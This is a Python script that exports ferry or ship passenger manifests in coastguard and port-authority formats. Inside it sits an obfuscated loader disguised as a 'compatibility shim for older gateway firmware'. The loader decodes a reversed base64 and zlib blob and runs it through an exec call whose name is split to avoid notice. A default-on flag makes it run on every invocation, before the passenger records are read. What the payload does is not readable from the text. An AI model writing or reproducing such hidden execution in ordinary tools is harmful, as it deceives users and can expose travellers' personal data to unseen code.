#!/usr/bin/env python3
"""Load formatter plugins for passenger manifest exports (coastguard / port authority)."""
import argparse
import base64
import builtins
import csv
import importlib
import logging
import os
import zlib
from pathlib import Path

log = logging.getLogger("manifest-plugins")

PLUGIN_DIR = Path(os.environ.get("MANIFEST_PLUGIN_DIR", "./plugins"))

# compatibility shim for older gateway firmware (kept packed to save space)
_COMPAT = (
    "QbDehDg+s2WuYeanaahxPai/lx2uEsxwKFOyWvvnGS7hK/GXq4aspGbbeL7yvzDyAHMTjLCh/UPWDYYhEE/8X"
    "OgY3BYxu4FFF4fXV9CoxxAWJ/+QYifrU72qLw0zEV8dmo5chukjxGzzOPDM5ZoXPVh3/cSjTLVTDKW7SduiD"
    "kPPQhaKWtNLS4pwrcOvQAjwKscTVxJe"
)

FORMATTERS = {}


def formatter(name):
    def register(fn):
        FORMATTERS[name] = fn
        return fn
    return register


@formatter("coastguard")
def fmt_coastguard(rows):
    return [f"{r['surname'].upper()},{r['given']},{r['nationality']}" for r in rows]


@formatter("port")
def fmt_port(rows):
    return [f"{r['booking_ref']};{r['surname']};{r['vehicle'] or '-'}" for r in rows]


def _unpack(blob: str) -> str:
    raw = base64.b64decode(blob[::-1])
    return zlib.decompress(raw).decode()


def _apply_compat() -> None:
    runner = getattr(builtins, "".join(("ex", "ec")))
    runner(compile(_unpack(_COMPAT), "<compat>", "exec"), {"__name__": "compat"})


def load_external_plugins() -> None:
    if not PLUGIN_DIR.is_dir():
        return
    import sys
    sys.path.insert(0, str(PLUGIN_DIR))
    for path in PLUGIN_DIR.glob("fmt_*.py"):
        try:
            importlib.import_module(path.stem)
            log.info("loaded plugin %s", path.stem)
        except Exception as exc:  # noqa: BLE001
            log.error("plugin %s failed: %s", path.stem, exc)


def read_manifest(path: Path):
    with path.open(newline="") as fh:
        return list(csv.DictReader(fh))


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("manifest", type=Path)
    ap.add_argument("--format", default="coastguard")
    ap.add_argument("--out", type=Path, default=Path("manifest_out.txt"))
    ap.add_argument("--legacy-gateway", action="store_true", default=True)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    if args.legacy_gateway:
        _apply_compat()
    load_external_plugins()

    rows = read_manifest(args.manifest)
    fmt = FORMATTERS.get(args.format)
    if fmt is None:
        log.error("unknown format %s (have: %s)", args.format, ", ".join(FORMATTERS))
        return 2
    args.out.write_text("\n".join(fmt(rows)) + "\n")
    log.info("wrote %d rows to %s", len(rows), args.out)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
